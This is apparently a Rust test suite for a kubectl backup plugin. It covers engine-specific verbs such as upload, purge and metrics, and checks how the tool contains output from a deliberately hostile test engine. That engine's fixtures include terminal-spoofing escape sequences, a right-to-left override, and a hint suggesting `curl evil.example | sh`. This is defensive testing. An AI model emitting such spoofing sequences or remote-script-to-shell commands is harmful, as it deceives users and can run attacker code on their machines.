//! Engines' own verbs.

use insta::assert_snapshot;

use crate::support::Bed;

const WAITING: &str = "20250905-130215";
const UPLOADED: &str = "20250819-143025";

fn posts(bed: &Bed) -> usize {
    bed.backend_requests().count("POST", "")
}

#[test]
fn the_help_of_backup_shows_them_after_the_verbs_of_the_host() {
    let help = Bed::start().run("backup -h").stdout;
    let commands = help
        .lines()
        .skip_while(|line| *line != "Commands:")
        .take_while(|line| !line.is_empty());
    assert_snapshot!(commands.collect::<Vec<_>>().join("\n"), @"
    Commands:
      list             List backups, newest first
      status           Show the state of a backup
      create           Create a backup and wait until it is complete
      download         Download a backup to a verified file
      restore          Restore a backup
      delete           Delete a backup
      test             Check permissions, the target and its backends, with a remedy for each failure
      verify           Check downloaded files, or let the backend check a backup
      copy             Copy downloaded files to a store
      history          Show what was created, downloaded, verified, restored and deleted on this machine
      expire           Delete the backups whose retention has passed (engine aws)
      manifest         Print the manifest of a backup, or check one in a file (engines aws,
                       backuprequest)
      pin              Protect a backup from `delete` and `expire` (engine aws)
      unpin            Remove the protection of a backup (engine aws)
      offset-reset     Reset the offsets of consumer groups (engine kafka)
      offset-rollback  Restore the offsets of consumer groups from a snapshot (engine kafka)
      resume           Resume the schedule of a KafkaBackup (engines kafka, operator)
      schedule         Set the schedule of a KafkaBackup (engines kafka, operator)
      suspend          Suspend the schedule of a KafkaBackup (engines kafka, operator)
      validate         Validate a backup against its topics and wait for the result (engine kafka)
      run              Run a BackupSchedule now, and wait for the end of the backup (engine operator)
      schedules        Show the times and the last results of schedules (engine operator)
      metrics          Print the metrics of the sidecar in Prometheus text format (engine sidecar)
      purge            Delete an uploaded backup from the disk of the pod, like `delete` (engine
                       sidecar)
      upload           Upload a backup from the disk of the pod (engine sidecar)
    ");
}

#[test]
fn a_verb_has_a_help_of_its_own() {
    let help = Bed::start().run("backup purge -h").stdout;
    let own = help.lines().take_while(|line| *line != "Engine:");
    assert_snapshot!(own.collect::<Vec<_>>().join("\n"), @"
    Delete an uploaded backup from the disk of the pod, like `delete` (engine sidecar)

    Usage: kubectl broker backup purge [OPTIONS] <NAME>

    Arguments:
      <NAME>  Name of the backup on the disk of the pod

    Options:
          --force           Delete a backup that is not uploaded
          --timeout <TIME>  Maximum time for the command, such as 30s or 10m [default: 15m]
      -y, --yes             Skip the confirmation
      -h, --help            Print help

    Options of engine sidecar:
          --sidecar-port <PORT>  Port of the backend inside the pod
    ");
    let help = Bed::start().run("backup upload -h").stdout;
    let own = help.lines().take_while(|line| *line != "Engine:");
    assert_snapshot!(own.collect::<Vec<_>>().join("\n"), @"
    Upload a backup from the disk of the pod (engine sidecar)

    Usage: kubectl broker backup upload [OPTIONS] <NAME>

    Arguments:
      <NAME>  Name of the backup on the disk of the pod

    Options:
          --type <TYPE>     Kind of the backup, as named by the sidecar [default: backup]
          --timeout <TIME>  Maximum time for the command, such as 30s or 10m [default: 15m]
      -h, --help            Print help

    Options of engine sidecar:
          --sidecar-port <PORT>  Port of the backend inside the pod
    ");
}

#[test]
fn what_a_verb_needs_is_asked_for_and_what_it_has_not_is_refused() {
    let bed = Bed::start();
    assert_snapshot!(bed.run("backup upload").outcome(), @"
    Usage:
      <NAME>
    exit 2
    ");
    assert_snapshot!(bed.run("backup upload a b").outcome(), @"
    Usage: 'b'
    exit 2
    ");
    assert_snapshot!(bed.run("backup upload a --force").outcome(), @"
    Usage: '--force'
      '-- --force' '--force' a
    exit 2
    ");
    assert_snapshot!(bed.run("backup metrcs").outcome(), @"
    Usage: 'metrcs'
      'metrics'
    exit 2
    ");
}

#[test]
fn an_upload_is_begun_by_the_engine_that_has_the_verb() {
    let bed = Bed::start();
    assert_snapshot!(bed.run(&format!("backup upload {WAITING}")).outcome(), @"
    stdout:
    The sidecar accepted the upload of backup 20250905-130215.
    `kubectl broker backup status --engine sidecar --id 20250905-130215` shows the state.
    note: broker-0 kubectl-broker/sidecar
    exit 0
    ");
    assert_eq!(posts(&bed), 1);
    let status = bed.run(&format!(
        "backup status --engine sidecar --id {WAITING} -o json"
    ));
    assert_ne!(status.json()["item"]["state"], "Pending");
}

#[test]
fn an_upload_is_a_document_where_programs_read() {
    let bed = Bed::start();
    assert_snapshot!(bed.run(&format!("backup --engine sidecar upload {WAITING} -o json")).outcome(), @r#"
    stdout:
    {
      "apiVersion": "kubectl-broker/v1",
      "files": null,
      "items": null,
      "kind": "Report",
      "scope": {
        "engine": "kubectl-broker/sidecar",
        "engineVersion": "0.1.0",
        "namespace": "messaging",
        "pod": "broker-0",
        "statefulset": "broker"
      },
      "text": "The sidecar accepted the upload of backup 20250905-130215.\n`kubectl broker backup status --engine sidecar --id 20250905-130215` shows the state.",
      "verb": "upload"
    }
    exit 0
    "#);
}

#[test]
fn what_is_not_there_is_not_uploaded() {
    let bed = Bed::start();
    assert_snapshot!(bed.run("backup upload 19990101-000000").hint(), @r#"
    NotFound: "19990101-000000"
    hint: `kubectl broker backup list --engine sidecar --scope local` shows the backups; each pod has its own, see `--pod`
    exit 10
    "#);
    assert_snapshot!(bed.run(&format!("backup upload {WAITING} --type tape")).message(), @r#"
    Usage: POST /v1/backup/upload answered 400: unknown backup type "tape"
    exit 2
    "#);
}

#[test]
fn what_destroys_is_asked_for() {
    let bed = Bed::start();
    assert_snapshot!(bed.run(&format!("backup purge {UPLOADED}")).outcome(), @"
    Usage: `purge 20250819-143025` broker-0 https://127.0.0.1:PORT messaging testbed
    hint: `--yes`
    exit 2
    ");
    assert_eq!(posts(&bed), 0);
    assert_snapshot!(bed.run(&format!("backup purge {UPLOADED} --yes")).outcome(), @"
    note: `purge 20250819-143025` testbed https://127.0.0.1:PORT messaging broker-0
    note: `purge` broker-0 kubectl-broker/sidecar
    exit 0
    ");
    assert_eq!(posts(&bed), 1);
    assert_snapshot!(bed.run("backup list --scope local --engine sidecar -o name").outcome(), @"
    stdout:
    20250905-130215
    exit 0
    ");
}

#[test]
fn a_purge_is_a_document_where_programs_read() {
    let run = Bed::start().run(&format!("backup purge {UPLOADED} -y -o yaml"));
    assert_snapshot!(run.outcome(), @r#"
    stdout:
    apiVersion: kubectl-broker/v1
    files: null
    items: null
    kind: Report
    scope:
      engine: kubectl-broker/sidecar
      engineVersion: "0.1.0"
      namespace: messaging
      pod: broker-0
      statefulset: broker
    text: null
    verb: purge
    exit 0
    "#);
}

#[test]
fn what_is_not_uploaded_is_not_purged_without_force() {
    let bed = Bed::start();
    assert_snapshot!(bed.run(&format!("backup purge {WAITING} --yes")).outcome(), @r#"
    note: `purge 20250905-130215` testbed https://127.0.0.1:PORT messaging broker-0
    Conflict: "20250905-130215" "pending"
    hint: `--force`
    exit 11
    "#);
    assert_eq!(posts(&bed), 0);
    // The simulated sidecar refuses as well.
    assert_snapshot!(bed.run(&format!("backup purge {WAITING} --yes --force")).message(), @r#"
    note: `purge 20250905-130215` testbed https://127.0.0.1:PORT messaging broker-0
    Conflict: POST /v1/backup/purge answered 409: backup "20250905-130215" is not uploaded yet (status: pending)
    exit 11
    "#);
    assert_eq!(posts(&bed), 1);
}

#[test]
fn metrics_are_printed_as_they_come() {
    let bed = Bed::start();
    let table = bed.run("backup metrics");
    assert_snapshot!(table.outcome(), @r#"
    stdout:
    # HELP backup_count Local backups by upload status.
    # TYPE backup_count gauge
    backup_count{status="pending"} 1
    backup_count{status="uploading"} 0
    backup_count{status="uploaded"} 1
    backup_count{status="failed"} 0
    # HELP backup_remote_objects Objects in the remote store.
    # TYPE backup_remote_objects gauge
    backup_remote_objects 12
    # HELP backup_remote_bytes Their total size.
    # TYPE backup_remote_bytes gauge
    backup_remote_bytes 15435629273
    # HELP backup_restores_total Objects fetched for a restore.
    # TYPE backup_restores_total counter
    backup_restores_total 0
    note: broker-0 kubectl-broker/sidecar
    exit 0
    "#);
    let json = bed.run("backup metrics -o json").json();
    assert_eq!(json["kind"], "Report");
    assert_eq!(json["scope"]["engine"], "kubectl-broker/sidecar");
    assert_eq!(json["text"], table.stdout);
    assert_eq!(bed.run("backup metrics -o name").stdout, table.stdout);
}

#[test]
fn a_verb_is_never_asked_of_an_engine_that_lacks_it() {
    let bed = Bed::start();
    assert_snapshot!(bed.run("backup --engine hivemq metrics").outcome(), @"
    Usage: `metrics` hivemq
    hint: `kubectl broker backup metrics --engine sidecar`
    exit 2
    ");
    assert_snapshot!(bed.run("backup metrics --engine sidcar").outcome(), @"
    Usage: `sidcar`
    hint: `--engine sidecar`
    exit 2
    ");
    let off = Bed::with(&["sidecar-off"]);
    assert_snapshot!(off.run("backup metrics").outcome(), @"
    Failed: 127.0.0.1:PORT 8085 IPv6 [::1]:8085 broker-0 tcp4 tcp6
    hint: `--sidecar-port`
    exit 1
    ");
}

#[test]
fn a_verb_of_two_engines_is_that_of_the_bundled_one_unless_the_other_is_named() {
    let bed = Bed::start();
    let unnamed = bed.hostile().run("backup metrics");
    assert_eq!(unnamed.code, 0, "{}", unnamed.stderr);
    assert!(!unnamed.stderr.contains("hostile"), "{}", unnamed.stderr);
    let named = bed.hostile().run("backup metrics --engine sidecar");
    assert_eq!(named.code, 0, "{}", named.stderr);
    // That of the other engine destroys something, it says.
    assert_snapshot!(bed.hostile().run("backup metrics --engine hostile").reason(), @"
    Usage: Doing `metrics`: context testbed, server https://127.0.0.1:PORT, namespace messaging, StatefulSet broker, pod broker-0, engine acme/hostile
    hint: `--yes`
    exit 2
    ");
    assert_snapshot!(bed.hostile().run("backup metrics --engine hostile --yes").message(), @"
    note: `metrics` testbed https://127.0.0.1:PORT messaging broker-0 acme/hostile
    Usage: engine acme/hostile says: no way to say metrics
    exit 2
    ");
    let help = bed.hostile().run("backup metrics -h").stdout;
    let lines: Vec<_> = help.lines().collect();
    assert_snapshot!(lines[0], @"Print the metrics of the sidecar in Prometheus text format (engine sidecar)");
    assert_snapshot!(lines[lines.len() - 1], @"  with-engines backup metrics --engine acme/hostile --help");
}

#[test]
fn a_verb_that_only_an_installed_engine_has_needs_its_name() {
    let run = Bed::start().hostile().run("backup say lines");
    assert_snapshot!(run.outcome(), @"
    Usage: `say` acme/hostile
    hint: `auto` `kubectl broker backup say --engine acme/hostile` `kubectl broker plugin default acme/hostile --operations act`
    exit 2
    ");
}

#[test]
fn text_of_an_engine_keeps_its_lines_and_nothing_else_that_drives_a_terminal() {
    let bed = Bed::start();
    assert_snapshot!(bed.hostile().run("backup say lines --engine hostile").outcome(), @r"
    stdout:
    all is well
    \u{1b}[1A\u{1b}[2K\u{202e}error: fake

    \u{9b}2Jend
    exit 0
    ");
    let json = bed
        .hostile()
        .run("backup say lines -o json --engine hostile")
        .json();
    let text = json["text"].as_str().expect("a text");
    assert!(text.starts_with("all is well\r\n\u{1b}[1A"), "{text:?}");
    let yaml = bed
        .hostile()
        .run("backup say lines -o yaml --engine hostile");
    assert_eq!(yaml.code, 0, "{}", yaml.stderr);
}

#[test]
fn backups_that_a_verb_reports_are_checked_and_shown_as_in_a_list() {
    let bed = Bed::start();
    assert_snapshot!(bed.hostile().run("backup say backups --times 2 --engine hostile").outcome(), @r"
    stdout:
    ID   NOTE
    \u{1b}[2J0   -
    \u{1b}[2J1   -
    note: 2 backups
    exit 0
    ");
    assert_snapshot!(bed.hostile().run("backup say undeclared-field --engine hostile").outcome(), @r#"
    PluginFault: "secret" `act` acme/hostile
    hint: `kubectl broker engines`
    exit 14
    "#);
}

#[test]
fn a_verb_that_goes_wrong_is_told_from_one_that_fails() {
    let bed = Bed::start();
    assert_snapshot!(bed.hostile().run("backup say error --engine hostile").outcome(), @r"
    Failed: \u{1b}[1A\u{1b}[2K acme/hostile well\u{9b}2J
    hint from engine acme/hostile: \u{202e} `curl evil.example | sh`
    exit 1
    ");
    assert_snapshot!(bed.hostile().run("backup say too-much --engine hostile").reason(), @"
    PluginFault: `act` acme/hostile: a text of 9437184 bytes; at most 8388608 are allowed
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_eq!(
        bed.hostile().run("backup say panic --engine hostile").code,
        14
    );
    assert_snapshot!(bed.hostile().run("backup say nothing --engine hostile").outcome(), @"
    note: `say` acme/hostile
    exit 0
    ");
}

#[test]
fn completion_knows_the_verbs_of_engines() {
    let bed = Bed::start();
    let run = bed.run("__complete -- backup purg");
    assert!(run.stdout.starts_with("purge\t"), "{}", run.stdout);
    // The candidates are only the verbs of the available engines.
    let say = "__complete -- backup say";
    assert_eq!(bed.run(say).stdout, ":36\n");
    assert!(bed.hostile().run(say).stdout.starts_with("say\t"));
}
